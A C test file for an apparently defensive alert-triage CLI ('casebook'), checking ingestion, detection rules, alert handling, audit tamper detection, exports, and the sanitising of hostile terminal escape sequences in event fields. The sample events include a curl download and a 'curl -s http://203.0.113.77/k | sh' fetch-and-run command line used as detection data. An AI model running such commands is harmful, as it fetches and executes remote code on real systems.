/* The casebook binary as a user runs it: usage, exit statuses, output formats, and that
 * hostile event data never reaches the terminal raw. */
#include "tests/testutil.h"

#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "cli/cli.h"
#include "cli/helptext.h"
#include "export/export.h"

static struct strbuf out, err;

static int setup(void **state)
{
	(void)state;
	strbuf_init(&out, 1024);
	strbuf_init(&err, 1024);
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	strbuf_release(&out);
	strbuf_release(&err);
	return 0;
}

/* Runs casebook on database db with the arguments fmt makes. */
static int CB(const char *db, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static int CB(const char *db, const char *fmt, ...)
{
	struct strbuf args;
	strbuf_init(&args, 128);
	va_list ap;
	va_start(ap, fmt);
	strbuf_vaddf(&args, fmt, ap);
	va_end(ap);
	int rc = tu_run(&out, &err, "%s --db '%s' %s", tu_casebook(), tu_path(db), args.buf);
	strbuf_release(&args);
	return rc;
}

static const char *EVENTS =
    "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"e1\",\"category\":[\"file\"],\"action\":"
    "\"modification\"},"
    "\"host\":{\"id\":\"H1\",\"name\":\"mac1\"},\"process\":{\"name\":\"installer\",\"pid\":7},"
    "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\"}}\n"
    "{\"@timestamp\":\"2024-05-01T10:05:00Z\",\"event\":{\"id\":\"e2\",\"category\":[\"process\"],\"action\":\"exec\"},"
    "\"host\":{\"id\":\"H2\",\"name\":\"mac2\"},\"process\":{\"name\":\"zsh\",\"executable\":\"/bin/zsh\"}}\n";

static void test_help_and_version(void **state)
{
	(void)state;
	assert_int_equal(tu_run(&out, &err, "%s --help", tu_casebook()), 0);
	assert_memory_equal(out.buf, "usage: casebook [--db PATH] [--analyst NAME] [--tz ZONE] COMMAND [ARGS]\n", 71);
	assert_non_null(strstr(out.buf, "  ingest     load Elastic Defend events"));
	assert_int_equal(tu_run(&out, &err, "%s --version", tu_casebook()), 0);
	assert_string_equal(out.buf, "casebook 0.9.0 (schema 14)\n");
	assert_int_equal(tu_run(&out, &err, "%s help events", tu_casebook()), 0);
	static const char events_help[] =
	    "usage: casebook events [--host H] [--from T] [--to T] [--limit N] [--query KQL] "
	    "[--local] [--json]\n\nlist stored events in time order, or those a KQL query matches\n\noptions:\n"
	    "  --host H     host.name or host.id\n";
	assert_memory_equal(out.buf, events_help, sizeof(events_help) - 1);
	/* the usage names the export formats of export.c's table, in its order */
	assert_int_equal(tu_run(&out, &err, "%s help export", tu_casebook()), 0);
	struct strbuf names;
	strbuf_init(&names, 128);
	for (size_t i = 0; i < export_format_count(); i++)
		strbuf_addf(&names, "%s%s", i ? "|" : "[--format ", export_format_info((enum export_format)i)->name);
	strbuf_addstr(&names, "]");
	assert_non_null(strstr(out.buf, names.buf));
	strbuf_release(&names);
	assert_int_equal(tu_run(&out, &err, "%s ingest --help", tu_casebook()), 0);
	assert_memory_equal(out.buf, "usage: casebook ingest FILE|DIRECTORY... | -\n", 45);
}

static void test_usage_errors_exit_64(void **state)
{
	(void)state;
	assert_int_equal(tu_run(&out, &err, "%s frobnicate", tu_casebook()), 64);
	assert_memory_equal(err.buf, "casebook: unknown command: frobnicate\nusage: casebook", 53);
	assert_int_equal(tu_run(&out, &err, "%s --frob", tu_casebook()), 64);
	assert_memory_equal(err.buf, "casebook: unknown option: --frob\n", 33);
	assert_int_equal(tu_run(&out, &err, "%s", tu_casebook()), 64);
	assert_int_equal(CB("u.db", "events --bogus"), 64);
	assert_string_equal(err.buf, "casebook events: unknown option --bogus ('casebook help events' lists them)\n"
	                             "usage: casebook events [--host H] [--from T] [--to T] [--limit N] [--query KQL] "
	                             "[--local] [--json]\n");
	assert_int_equal(CB("u.db", "events --from yesterday"), 64);
	assert_memory_equal(err.buf, "casebook events: --from: expected a date YYYY-MM-DD\n", 51);
	assert_int_equal(CB("u.db", "ingest"), 64);
	assert_int_equal(tu_run(&out, &err, "%s --db", tu_casebook()), 64);
	assert_memory_equal(err.buf, "casebook: this option needs a value: --db\n", 42);
}

static void test_ingest_exit_statuses_and_summary(void **state)
{
	(void)state;
	tu_write_str(tu_path("good.ndjson"), EVENTS);
	assert_int_equal(CB("x.db", "ingest '%s'", tu_path("good.ndjson")), 0);
	assert_string_equal(out.buf, "2 documents: 2 added, 0 duplicate, 0 rejected\n");
	assert_string_equal(err.buf, ""); /* no progress line when stderr is not a terminal */
	assert_int_equal(CB("x.db", "ingest '%s'", tu_path("good.ndjson")), 0);
	assert_string_equal(out.buf, "2 documents: 0 added, 2 duplicate, 0 rejected\n");

	tu_write_str(tu_path("bad.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T11:00:00Z\",\"event\":{\"id\":\"e3\"}}\n{oops}\n");
	assert_int_equal(CB("x.db", "ingest '%s'", tu_path("bad.ndjson")), 2);
	assert_string_equal(out.buf, "2 documents: 1 added, 0 duplicate, 1 rejected\n"
	                             "the damaged parts are kept: 'casebook rejects' lists them\n");
	assert_non_null(strstr(err.buf, "bad.ndjson:2:2: expected a member name in double quotes, found 'o'\n"));

	assert_int_equal(CB("x.db", "ingest '%s'", tu_path("nonexistent.json")), 1);
	assert_non_null(strstr(err.buf, "nonexistent.json: cannot read: No such file or directory\n"));
	assert_string_equal(out.buf, "0 documents: 0 added, 0 duplicate, 0 rejected\n");
}

static void test_ingest_from_stdin(void **state)
{
	(void)state;
	tu_write_str(tu_path("in.ndjson"), EVENTS);
	assert_int_equal(tu_run(&out, &err, "%s --db '%s' ingest - < '%s'", tu_casebook(), tu_path("stdin.db"),
	                        tu_path("in.ndjson")),
	                 0);
	assert_string_equal(out.buf, "2 documents: 2 added, 0 duplicate, 0 rejected\n");
	assert_int_equal(CB("stdin.db", "rejects"), 0);
	assert_string_equal(out.buf, "");
}

/* The events' table header (through a pipe: no column cut, none left out). */
#define EVENTS_HEADER                                                                                                  \
	"TIME (UTC)                   HOST                  EVENT                     PROCESS           DETAIL\n"

static void test_events_table_json_and_filters(void **state)
{
	(void)state;
	tu_write_str(tu_path("ev.ndjson"), EVENTS);
	assert_int_equal(CB("ev.db", "ingest '%s'", tu_path("ev.ndjson")), 0);
	assert_int_equal(CB("ev.db", "events"), 0);
	assert_string_equal(
	    out.buf, EVENTS_HEADER
	    "2024-05-01T10:00:00.000000Z  mac1                  file/modification         installer         "
	    "/Library/DirectoryServices/PlugIns/x.dsplug\n"
	    "2024-05-01T10:05:00.000000Z  mac2                  process/exec              zsh               "
	    "/bin/zsh\n");
	assert_int_equal(CB("ev.db", "events --json --host H2"), 0);
	assert_string_equal(
	    out.buf, "{\"@timestamp\":\"2024-05-01T10:05:00Z\",\"event\":{\"id\":\"e2\",\"category\":[\"process\"],"
	             "\"action\":\"exec\"},\"host\":{\"id\":\"H2\",\"name\":\"mac2\"},\"process\":{\"name\":\"zsh\","
	             "\"executable\":\"/bin/zsh\"}}\n");
	assert_int_equal(CB("ev.db", "events --from 2024-05-01T10:01:00Z --to 2024-05-01T12:00:00+01:00"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_non_null(strstr(out.buf, "mac2"));
	assert_int_equal(CB("ev.db", "--analyst someone events --limit 1"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_non_null(strstr(out.buf, "mac1"));
}

/* `events` says what an event shows as the console's timeline does (triage/evidence.h): a
 * process's command line with its arguments, a connection's address, a file's path — with
 * --query or without, the same rows. */
static void test_events_detail_reads_as_the_timeline(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("cmd.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"c1\",\"category\":[\"process\"],"
	    "\"action\":\"exec\"},\"host\":{\"id\":\"H1\",\"name\":\"mac1\"},\"process\":{\"name\":"
	    "\"curl\",\"executable\":\"/usr/bin/curl\",\"command_line\":\"curl -so /tmp/p http://x.test/p\"}}\n"
	    "{\"@timestamp\":\"2024-05-01T10:00:01Z\",\"event\":{\"id\":\"c2\",\"category\":[\"network\"],"
	    "\"action\":\"connection_attempted\"},\"host\":{\"id\":\"H1\",\"name\":\"mac1\"},"
	    "\"process\":{\"name\":\"curl\",\"executable\":\"/usr/bin/curl\"},"
	    "\"destination\":{\"ip\":\"203.0.113.7\",\"port\":80}}\n");
	assert_int_equal(CB("cmd.db", "ingest '%s'", tu_path("cmd.ndjson")), 0);
	static const char rows[] = EVENTS_HEADER
	    "2024-05-01T10:00:00.000000Z  mac1                  process/exec              curl              "
	    "curl -so /tmp/p http://x.test/p\n"
	    "2024-05-01T10:00:01.000000Z  mac1                  network/connection_attempted  curl              "
	    "→ 203.0.113.7:80\n";
	assert_int_equal(CB("cmd.db", "events"), 0);
	assert_string_equal(out.buf, rows);
	assert_int_equal(CB("cmd.db", "events --query 'host.name : mac1'"), 0);
	assert_string_equal(out.buf, rows);
}

static void test_rejects_listing(void **state)
{
	(void)state;
	tu_write_str(tu_path("r.ndjson"), "{\"a\":\"\x1b[31mred\"\n");
	assert_int_equal(CB("r.db", "ingest '%s'", tu_path("r.ndjson")), 2);
	assert_int_equal(CB("r.db", "rejects"), 0);
	assert_non_null(strstr(out.buf,
	                       "r.ndjson:1:7: control character 0x1B in string (unterminated string?) (16 bytes kept)\n"
	                       "    {\"a\":\"\xe2\x90\x9b[31mred\"\xe2\x90\xa4\n"));
	assert_int_equal(CB("r.db", "rejects --json"), 0);
	assert_non_null(strstr(
	    out.buf, "\"line\":1,\"column\":7,\"offset\":0,\"error\":\"control character 0x1B in string "
	             "(unterminated string?)\",\"raw\":\"{\\\"a\\\":\\\"\\u001b[31mred\\\"\\n\",\"raw_bytes\":16,"
	             "\"raw_dropped\":0}\n"));
}

static void test_hostile_fields_never_reach_the_terminal_raw(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("hostile.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"h1\",\"category\":[\"file\\u001b[2J\"],"
	    "\"action\":\"x\\r\\u009b31m\"},\"host\":{\"name\":\"evil\\u001b]0;pwned\\u0007\\u202e\"},"
	    "\"process\":{\"name\":\"a\\bb\\u007f\"},\"file\":{\"path\":\"/tmp/\\u200b\xff\\n/x\"}}\n");
	assert_int_equal(CB("h.db", "ingest '%s'", tu_path("hostile.ndjson")), 0);
	assert_int_equal(CB("h.db", "events"), 0);
	for (size_t i = 0; i < out.len; i++) {
		unsigned char c = (unsigned char)out.buf[i];
		if (c < 0x20 && c != '\n')
			fail_msg("raw control byte 0x%02x at %zu in: %s", c, i, out.buf);
	}
	assert_null(strstr(out.buf, "\xc2\x9b"));     /* C1 CSI */
	assert_null(strstr(out.buf, "\xe2\x80\xae")); /* RLO */
	assert_null(strstr(out.buf, "\xe2\x80\x8b")); /* zero-width space */
	assert_non_null(strstr(out.buf, "evil\xe2\x90\x9b]0;pwned\xe2\x90\x87\\u202E"));
	assert_non_null(strstr(out.buf, "/tmp/\\u200B\\xFF\xe2\x90\xa4/x"));
	assert_int_equal(CB("h.db", "events --json"), 0);
	assert_null(strstr(out.buf, "\x1b"));
	assert_null(strstr(out.buf, "\xff"));
	assert_non_null(strstr(out.buf, "\"name\":\"evil\\u001b]0;pwned\\u0007\\u202e\""));
	assert_non_null(strstr(out.buf, "\"path\":\"/tmp/\\u200b\\ufffd\\n/x\""));
}

static void test_commands_on_a_missing_database(void **state)
{
	(void)state;
	assert_int_equal(CB("missing.db", "events"), 1);
	assert_non_null(strstr(err.buf, "start a case with 'casebook ingest FILE' (or pass --db PATH)"));
}

static void test_detect_alerts_show_timeline(void **state)
{
	(void)state;
	tu_write_str(tu_path("d.ndjson"), EVENTS);
	assert_int_equal(CB("d.db", "ingest '%s'", tu_path("d.ndjson")), 0);
	tu_seed_rule_only_cli(tu_path("d.db"));
	assert_int_equal(CB("d.db", "rules"), 0);
	assert_non_null(strstr(out.buf,
	                       "89fa6cb7-6b53-4de2-b604-648488841ab8  107      query    kuery     5m from now-9m    "
	                       "yes  Persistence via DirectoryService Plugin Modification\n"));
	/* the EVENTS file event has no host.os.type: no alert; then one with it */
	assert_int_equal(CB("d.db", "detect"), 0);
	assert_non_null(strstr(out.buf, "0 alerts created"));
	tu_write_str(tu_path("d2.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T10:06:00Z\",\"event\":{\"id\":\"e9\",\"category\":[\"file\"],"
	             "\"type\":[\"change\"]},\"host\":{\"id\":\"H1\",\"name\":\"mac1\",\"os\":{\"type\":\"macos\"}},"
	             "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/y.dsplug\",\"name\":\"y.dsplug\"}}\n");
	assert_int_equal(CB("d.db", "ingest '%s'", tu_path("d2.ndjson")), 0);
	assert_int_equal(CB("d.db", "detect"), 0);
	assert_string_equal(out.buf, "1 rules: 1 executions replayed, 1 events matched, 1 alerts created, "
	                             "0 duplicates skipped, 0 executions hit max_signals\n");
	assert_int_equal(CB("d.db", "alerts --status open"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_non_null(strstr(out.buf, "open          medium     47  2024-05-01T10:06:00Z  mac1                "));
	char prefix[8];
	const char *row = strchr(out.buf, '\n') + 1;
	memcpy(prefix, row, 6);
	prefix[6] = '\0';
	assert_int_equal(CB("d.db", "show %s", prefix), 0);
	assert_non_null(strstr(out.buf, "rule          Persistence via DirectoryService Plugin Modification\n"));
	/* Kibana's reason template: "with" before a field of interest (reason_formatters.ts) */
	assert_non_null(strstr(out.buf, "file event with file y.dsplug, on mac1 created medium alert "
	                                "Persistence via DirectoryService Plugin Modification.\n"));
	assert_int_equal(CB("d.db", "timeline %s --before 10m --after 0s", prefix), 0);
	assert_string_equal(
	    out.buf, "  " EVENTS_HEADER
	             "  2024-05-01T10:00:00.000000Z  mac1                  file/modification         installer         "
	             "/Library/DirectoryServices/PlugIns/x.dsplug\n"
	             "> 2024-05-01T10:06:00.000000Z  mac1                  file/-                    -                 "
	             "/Library/DirectoryServices/PlugIns/y.dsplug\n");
	assert_int_equal(CB("d.db", "show zzzz"), 1);
	assert_string_equal(err.buf, "casebook show: no alert matches zzzz ('casebook alerts' lists them)\n");
	assert_int_equal(CB("d.db", "show ''"), 64);
	assert_int_equal(CB("d.db", "alerts --status bogus"), 64);
	assert_int_equal(CB("d.db", "detect --rule nope"), 1);
	assert_non_null(strstr(err.buf, "no rule with rule_id nope"));
	assert_int_equal(CB("d.db", "events --query 'file.path:*y.dsplug'"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_int_equal(CB("d.db", "events --query 'file.path:(a'"), 64);
	assert_string_equal(err.buf, "casebook events: KQL syntax error at column 13: expected ')' or 'and', 'or' but "
	                             "the query ended\n    file.path:(a\n                ^\n");
	assert_int_equal(
	    CB("d.db",
	       "exception add 89fa6cb7-6b53-4de2-b604-648488841ab8 --field host.name --value mac1 --confirm-broad"),
	    0);
	assert_int_equal(CB("d.db", "exception list"), 0);
	assert_non_null(strstr(out.buf, "list casebook-89fa6cb7-6b53-4de2-b604-648488841ab8"));
	assert_int_equal(CB("d.db", "exception add 89fa6cb7-6b53-4de2-b604-648488841ab8 --field host.name"), 64);
	assert_string_equal(err.buf, "casebook exception: this --type takes exactly one --value\n");
}

/* --tz: the listings in the analyst's zone, every time labelled (May 2024 is summer time in
 * Berlin, UTC+2, "CEST" in tzdata); UTC, the default, prints what it always has; --json stays
 * UTC ISO 8601; an unknown zone is refused. */
static void test_times_in_the_analysts_zone(void **state)
{
	(void)state;
	tu_write_str(tu_path("tz.ndjson"), EVENTS);
	assert_int_equal(CB("tz.db", "ingest '%s'", tu_path("tz.ndjson")), 0);
	tu_seed_rule_only_cli(tu_path("tz.db"));
	tu_write_str(tu_path("tz2.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T10:06:00.250Z\",\"event\":{\"id\":\"e9\",\"category\":[\"file\"],"
	             "\"type\":[\"change\"]},\"host\":{\"id\":\"H1\",\"name\":\"mac1\",\"os\":{\"type\":\"macos\"}},"
	             "\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/y.dsplug\",\"name\":\"y.dsplug\"}}\n");
	assert_int_equal(CB("tz.db", "ingest '%s'", tu_path("tz2.ndjson")), 0);
	assert_int_equal(CB("tz.db", "detect"), 0);

	assert_int_equal(CB("tz.db", "--tz Europe/Berlin events"), 0);
	assert_string_equal(
	    out.buf, "TIME (Europe/Berlin)              HOST                  EVENT                     PROCESS  "
	             "         DETAIL\n"
	             "2024-05-01 12:00:00.000000 CEST   mac1                  file/modification         installer"
	             "         /Library/DirectoryServices/PlugIns/x.dsplug\n"
	             "2024-05-01 12:05:00.000000 CEST   mac2                  process/exec              zsh      "
	             "         /bin/zsh\n"
	             "2024-05-01 12:06:00.250000 CEST   mac1                  file/-                    -        "
	             "         /Library/DirectoryServices/PlugIns/y.dsplug\n");
	assert_int_equal(CB("tz.db", "events --tz=UTC --host H2"), 0);
	assert_string_equal(out.buf,
	                    EVENTS_HEADER "2024-05-01T10:05:00.000000Z  mac2                  process/exec      "
	                                  "        zsh               /bin/zsh\n");
	assert_int_equal(CB("tz.db", "--tz Europe/Berlin events --json --host H2"), 0);
	assert_non_null(strstr(out.buf, "{\"@timestamp\":\"2024-05-01T10:05:00Z\","));

	assert_int_equal(CB("tz.db", "alerts --tz Europe/Berlin"), 0);
	const char *row = strchr(out.buf, '\n') + 1;
	assert_memory_equal(out.buf, "ALERT         STATUS        SEVERITY  RSK  TIME (Europe/Berlin)       HOST  ",
	                    strlen("ALERT         STATUS        SEVERITY  RSK  TIME (Europe/Berlin)       HOST  "));
	assert_memory_equal(row + 14, "open          medium     47  2024-05-01 12:06:00 CEST   mac1  ",
	                    strlen("open          medium     47  2024-05-01 12:06:00 CEST   mac1  "));
	char prefix[8];
	memcpy(prefix, row, 6);
	prefix[6] = '\0';
	assert_int_equal(CB("tz.db", "--tz UTC alerts"), 0);
	assert_non_null(strstr(out.buf, "  TIME (UTC)            HOST  "));
	assert_non_null(strstr(out.buf, "open          medium     47  2024-05-01T10:06:00Z  mac1  "));

	assert_int_equal(CB("tz.db", "--tz Europe/Berlin show %s", prefix), 0);
	assert_non_null(strstr(out.buf, "2024-05-01 12:06:00.250000 CEST"));
	assert_null(strstr(out.buf, "T10:06:00"));
	assert_int_equal(CB("tz.db", "show %s", prefix), 0);
	assert_non_null(strstr(out.buf, "2024-05-01T10:06:00.250000Z"));

	assert_int_equal(CB("tz.db", "--tz Europe/Berlin timeline %s --before 10m --after 0s", prefix), 0);
	assert_string_equal(
	    out.buf, "  TIME (Europe/Berlin)              HOST                  EVENT                     PROCESS"
	             "           DETAIL\n"
	             "  2024-05-01 12:00:00.000000 CEST   mac1                  file/modification         "
	             "installer         /Library/DirectoryServices/PlugIns/x.dsplug\n"
	             "> 2024-05-01 12:06:00.250000 CEST   mac1                  file/-                    -      "
	             "           /Library/DirectoryServices/PlugIns/y.dsplug\n");

	assert_int_equal(CB("tz.db", "--tz Mars/Olympus_Mons events"), 64);
	assert_string_equal(err.buf, "casebook: --tz Mars/Olympus_Mons: no such time zone (an IANA name such as "
	                             "Europe/Berlin, UTC, or local)\n");
	assert_string_equal(out.buf, "");
}

static void test_triage_from_the_command_line(void **state)
{
	(void)state;
	assert_int_equal(CB("t.db", "ingest tests/fixtures/hostile.ndjson"), 0);
	tu_seed_rule_only_cli(tu_path("t.db"));
	assert_int_equal(CB("t.db", "detect"), 0);
	assert_non_null(strstr(out.buf, "2 alerts created"));
	/* bulk: close the Apple-signed one by a query over alerts, in one transaction */
	assert_int_equal(CB("t.db",
	                    "--analyst amy status --query 'process.code_signature.subject_name:\"Software Signing\"' "
	                    "closed --reason benign_positive"),
	                 1);
	assert_non_null(strstr(err.buf, "has 6 checklist items open; finish them, or close with --force"));
	assert_string_equal(out.buf, "nothing changed\n");
	assert_int_equal(CB("t.db",
	                    "--analyst amy status --query 'process.code_signature.subject_name:\"Software Signing\"' "
	                    "closed --reason benign_positive --force --comment 'Apple update'"),
	                 0);
	assert_string_equal(out.buf, "1 alert closed\n");
	assert_int_equal(CB("t.db", "alerts --status closed"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_non_null(strstr(out.buf, "mac-good"));
	assert_int_equal(CB("t.db", "status --query 'x:y' closed"), 64);
	assert_int_equal(CB("t.db", "status abc open --reason duplicate"), 64);
	/* the other alert, step by step */
	assert_int_equal(CB("t.db", "alerts --status open --json"), 0);
	char uuid[13];
	const char *u = strstr(out.buf, "\"kibana.alert.uuid\":\"");
	assert_non_null(u);
	memcpy(uuid, u + 21, 12);
	uuid[12] = '\0';
	assert_int_equal(CB("t.db", "--analyst bob check %s 2 --note seen", uuid), 0);
	assert_non_null(strstr(out.buf, ": checklist item 2 checked\n"));
	assert_int_equal(CB("t.db", "check %s 42", uuid), 1);
	assert_non_null(strstr(err.buf, "has no such item"));
	assert_int_equal(CB("t.db", "respond %s 1 maybe", uuid), 64);
	assert_int_equal(CB("t.db", "--analyst bob respond %s 1 done", uuid), 0);
	tu_write_str(tu_path("note.txt"), "first line\nsecond line\n");
	assert_int_equal(tu_run(&out, &err, "%s --db '%s' --analyst bob note %s - < '%s'", tu_casebook(),
	                        tu_path("t.db"), uuid, tu_path("note.txt")),
	                 0);
	assert_int_equal(CB("t.db", "show %s", uuid), 0);
	assert_non_null(strstr(out.buf, "  [x]  2. "));
	assert_non_null(strstr(out.buf, "notes:\n  bob, "));
	assert_non_null(strstr(out.buf, "    first line\n    second line\n"));
	assert_int_equal(CB("t.db", "audit --verify"), 0);
	/* the refused close wrote nothing: the two alerts' anchors, the close, then check, respond, note */
	assert_string_equal(out.buf, "audit chain verified: 6 entries, none changed, removed or inserted; alerts and "
	                             "exceptions are what they anchored; notes, checklists and statuses are what "
	                             "they record\n");
	assert_int_equal(CB("t.db", "audit %s", uuid), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 4); /* its anchor, then check, respond, note */
	/* exports: atomic files, Timesketch names, no overwriting */
	assert_int_equal(CB("t.db", "export %s --format timesketch-csv -o '%s'", uuid, tu_path("tl.txt")), 64);
	assert_non_null(strstr(err.buf, "Timesketch imports only files whose names end in .csv"));
	assert_int_equal(CB("t.db", "export %s --format timesketch-csv -o '%s'", uuid, tu_path("tl.csv")), 0);
	assert_int_equal(CB("t.db", "export %s --format timesketch-csv -o '%s'", uuid, tu_path("tl.csv")), 1);
	assert_non_null(strstr(err.buf, "exists; add --force to replace it"));
	assert_int_equal(CB("t.db", "export --all --format json"), 0);
	assert_non_null(strstr(out.buf, "\"casebook_export_version\":1"));
	assert_int_equal(CB("t.db", "show %s --json", uuid), 0);
	assert_non_null(strstr(out.buf, "\"checklist\":[{\"n\":1,"));
	/* tampering shows */
	sqlite3 *raw;
	assert_int_equal(sqlite3_open(tu_path("t.db"), &raw), SQLITE_OK);
	assert_int_equal(sqlite3_exec(raw, "UPDATE audit SET after = 'done, honest' WHERE id = 3", NULL, NULL, NULL),
	                 SQLITE_OK);
	sqlite3_close(raw);
	assert_int_equal(CB("t.db", "audit --verify"), 2);
	assert_string_equal(out.buf, "audit chain BROKEN at entry 3: entry 3 was changed after it was written\n");
}

/* Rule versions, EQL rules, a sequence's alert, and the coverage table. */
static void test_rule_versions_sequences_and_coverage(void **state)
{
	(void)state;
	assert_int_equal(
	    tu_run(&out, &err, "{ build/release/gen-events --events 2000 --hosts 8 > '%s'; }", tu_path("v.ndjson")), 0);
	assert_int_equal(CB("v.db", "ingest '%s'", tu_path("v.ndjson")), 0);
	assert_int_equal(CB("v.db", "rules"), 0);
	assert_non_null(strstr(out.buf,
	                       "89fa6cb7-6b53-4de2-b604-648488841ab8  111      eql      eql       5m from now-9m    "
	                       "no   Persistence via DirectoryService Plugin Modification\n"));
	assert_non_null(strstr(out.buf,
	                       "6f0e5b2d-3c1a-5d4e-8f7a-9b0c1d2e3f45  1        eql      eql       5m from now-9m    "
	                       "yes  DirectoryService Plugin Installed Then Run (casebook companion)\n"));
	/* enabling needs a version when there are several */
	assert_int_equal(CB("v.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8"), 64);
	assert_string_equal(err.buf, "casebook rules: 89fa6cb7-6b53-4de2-b604-648488841ab8 has versions 107 (enabled), "
	                             "111; choose one with --version N\n");
	assert_int_equal(CB("v.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8 --version 112"), 1);
	assert_string_equal(err.buf, "casebook rules: 89fa6cb7-6b53-4de2-b604-648488841ab8 has no version 112 (it has "
	                             "107 (enabled), 111)\n");
	assert_int_equal(CB("v.db", "rules enable nope"), 1);
	assert_int_equal(CB("v.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8 --version x"), 64);
	/* version 111 runs alone when asked for by version, though disabled */
	assert_int_equal(CB("v.db", "detect --rule 89fa6cb7-6b53-4de2-b604-648488841ab8 --version 111"), 0);
	assert_string_equal(out.buf, "1 rules: 3 executions replayed, 2 events matched, 2 alerts created, "
	                             "0 duplicates skipped, 0 executions hit max_signals\n");
	assert_int_equal(CB("v.db", "detect --version 111"), 64);
	/* every enabled rule: the seed's three alerts, the companions' (version 111 is not enabled) */
	assert_int_equal(CB("v.db", "detect"), 0);
	assert_string_equal(out.buf, "5 rules: 15 executions replayed, 11 events matched, 11 alerts created, "
	                             "0 duplicates skipped, 0 executions hit max_signals\n");
	/* --rule alone runs the enabled version, 107: its alerts exist already */
	assert_int_equal(CB("v.db", "detect --rule 89fa6cb7-6b53-4de2-b604-648488841ab8 --from 2026-11-20T00:00:00Z "
	                            "--to 2026-11-21T00:00:00Z"),
	                 0);
	assert_memory_equal(out.buf, "1 rules: ", 9);
	assert_non_null(strstr(out.buf, " 0 alerts created, 3 duplicates skipped,"));
	assert_string_equal(err.buf, "");
	assert_int_equal(CB("v.db", "alerts --rule 6f0e5b2d-3c1a-5d4e-8f7a-9b0c1d2e3f45"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	char prefix[16];
	const char *row = strchr(out.buf, '\n') + 1;
	memcpy(prefix, row, 12);
	prefix[12] = '\0';
	assert_non_null(strstr(row,
	                       "  critical   99  2026-11-20T08:05:29Z  mac-lisbon-01       DirectoryService Plugin "
	                       "Installed Then Run (casebook companion)  /Library/"));
	assert_int_equal(CB("v.db", "show %s", prefix), 0);
	assert_non_null(strstr(
	    out.buf, "sequence of 2 events:\n"
	             "  2026-11-20T08:05:29.777844Z  mac-lisbon-01         file/modification         "
	             "ZoomUpdate        /Library/DirectoryServices/PlugIns/CoreSync.dsplug/Contents/MacOS/CoreSync\n"
	             "  2026-11-20T08:05:33.977844Z  mac-lisbon-01         process/exec              "
	             "sh                /bin/sh -c curl -s http://203.0.113.77/k | sh\n")); /* its command line */
	/* the timeline marks both */
	assert_int_equal(CB("v.db", "timeline %s --before 1s --after 5s", prefix), 0);
	assert_int_equal(tu_count(out.buf, "\n> "), 2);
	assert_non_null(strstr(out.buf, "> 2026-11-20T08:05:33.977844Z  mac-lisbon-01         process/exec"));
	/* with a 0 s window the sequence's second event is still in it, as in the export (issue 25:
	 * timeline listed 1 event where export listed 2) */
	assert_int_equal(CB("v.db", "timeline %s --before 0s --after 0s", prefix), 0);
	assert_int_equal(tu_count(out.buf, "\n> "), 2);
	assert_int_equal(tu_count(out.buf, "\n"), 3);
	assert_int_equal(CB("v.db", "export %s --window 0s", prefix), 0);
	assert_int_equal(tu_count(out.buf, "\n| ▶ |"), 2);
	/* show: who, what and where in the Overview's words, the parent and the signature too */
	assert_int_equal(CB("v.db", "show %s", prefix), 0);
	assert_non_null(strstr(out.buf,
	                       "\n  Parent process  /System/Library/CoreServices/Finder.app/Contents/MacOS/Finder "
	                       "(pid 388)\n  Code signature  unsigned; not trusted; status errorCodeSignature\n"));
	/* TheHive's observables come from every event of the sequence: the URL in the shell's
	 * command line, and its host as an address, each once */
	assert_int_equal(CB("v.db", "export %s --format thehive", prefix), 0);
	assert_non_null(strstr(out.buf, "{\"dataType\":\"url\",\"data\":\"http://203.0.113.77/k\""));
	assert_non_null(strstr(out.buf, "{\"dataType\":\"ip\",\"data\":\"203.0.113.77\""));
	assert_int_equal(tu_count(out.buf, "\"data\":\"203.0.113.77\""), 1);
	assert_int_equal(tu_count(out.buf, "\"dataType\":\"hostname\""), 1);
	/* alerts: filtered by host, severity and KQL, sorted */
	assert_int_equal(CB("v.db", "alerts --severity critical"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 2);
	assert_int_equal(tu_count(out.buf, "  critical   99  "), 1);
	assert_int_equal(CB("v.db", "alerts --sort risk"), 0);
	assert_non_null(strstr(strchr(out.buf, '\n'), "  critical   99  "));
	assert_true(strstr(out.buf, "  critical   99  ") < strstr(out.buf, "  high       73  "));
	assert_int_equal(CB("v.db", "alerts --host mac-oslo-02 --query 'kibana.alert.rule.name:*Folder*'"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 3);
	assert_int_equal(tu_count(out.buf, "mac-oslo-02"), 2);
	assert_int_equal(CB("v.db", "alerts --query 'x:('"), 64);
	/* on a terminal (script(1) gives one) the listings fit its width: the risk and the status
	 * are left out at 80 columns, the time loses its year, and what is cut shows … */
	if (tu_run(&out, &err, "command -v script") == 0) {
		static const char *const listings[] = {"alerts", "rules", "events --limit 50"};
		for (size_t k = 0; k < 3; k++) {
			assert_int_equal(tu_run(&out, &err,
			                        "script -qec \"stty cols 80 rows 24; %s --db '%s' %s\" /dev/null",
			                        tu_casebook(), tu_path("v.db"), listings[k]),
			                 0);
			size_t lines = 0, cols = 0;
			for (const char *c = out.buf; *c; c++) {
				if (*c == '\n') {
					assert_in_range(cols, 1, 80);
